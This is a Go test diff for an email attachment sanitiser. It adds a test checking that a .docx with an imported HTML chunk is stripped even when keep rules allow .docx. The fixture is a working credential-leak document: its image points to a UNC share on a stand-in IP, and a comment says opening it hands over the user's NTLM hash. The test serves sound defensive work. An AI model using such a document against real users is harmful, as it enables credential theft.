@@ -930,3 +930,49 @@ func TestKeptWorkbookFormulas(t *testing.T) {
 		t.Errorf("%q: rewritten as %q", jp, got)
 	}
 }
+
+// officePackage is an Office package of the named parts, in order.
+func officePackage(t *testing.T, parts ...[2]string) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	for _, p := range parts {
+		w, err := z.Create(p[0])
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write([]byte(p[1]))
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// TestDocxWithImportedChunkNotKept: a Word document importing an HTML
+// chunk (w:altChunk) is not kept by a rule listing .docx: Word converts
+// the chunk as the document opens and fetches its picture from the
+// share, handing over the user's NTLM hash (red team: it was kept, no
+// finding). The notice says it holds embedded content.
+func TestDocxWithImportedChunkNotKept(t *testing.T) {
+	docx := officePackage(t,
+		[2]string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="htm" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
+		[2]string{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`},
+		[2]string{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:altChunk r:id="rId9"/></w:body></w:document>`},
+		[2]string{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.htm"/></Relationships>`},
+		[2]string{"word/afchunk.htm", `<html><body><p>案内</p><img src="\\192.0.2.1\s\a.png"></body></html>`})
+	for _, rule := range []config.KeepRule{
+		{Extensions: []string{".docx", ".xlsx", ".pptx"}},
+		{Extensions: []string{".docx"}, Types: []string{"application/vnd.openxmlformats-officedocument.wordprocessingml.document"}},
+	} {
+		pol := defaultPolicy(t)
+		pol.Attachments.Keep = []config.KeepRule{rule}
+		rep, out := rebuilt(t, withAttachments(attached{"案内.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx}), pol)
+		if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != "document with active or embedded content" {
+			t.Errorf("%v: %s (%s), want stripped: document with active or embedded content; findings %q", rule, p.Decision, p.Reason, rep.Findings)
+		}
+		if text := decodedText(t, out); !strings.Contains(text, "スクリプトや埋め込みファイルを含む文書のため") {
+			t.Errorf("%v: notice does not say it holds embedded content:\n%s", rule, text)
+		}
+	}
+}
